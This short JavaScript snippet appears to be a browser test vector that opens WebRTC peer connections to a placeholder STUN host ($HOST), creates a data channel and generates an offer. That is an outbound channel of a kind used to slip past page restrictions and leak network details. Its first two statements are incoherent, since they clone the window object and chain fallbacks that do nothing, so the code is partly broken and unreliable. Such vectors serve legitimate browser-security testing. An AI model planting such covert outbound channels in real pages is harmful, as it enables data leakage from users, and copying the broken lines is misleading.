// vector: certificate made by the page
const { RTCPeerConnection: Peer } = structuredClone(window.RTCPeerConnection ? {} : window) ?? window;
new (Peer ?? window.RTCPeerConnection)({ iceServers: [{ urls: "stun:$HOST" }] }).createDataChannel("way");
const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:$HOST" }] });
peer.createDataChannel("way");
peer.createOffer().then((offer) => peer.setLocalDescription(offer));
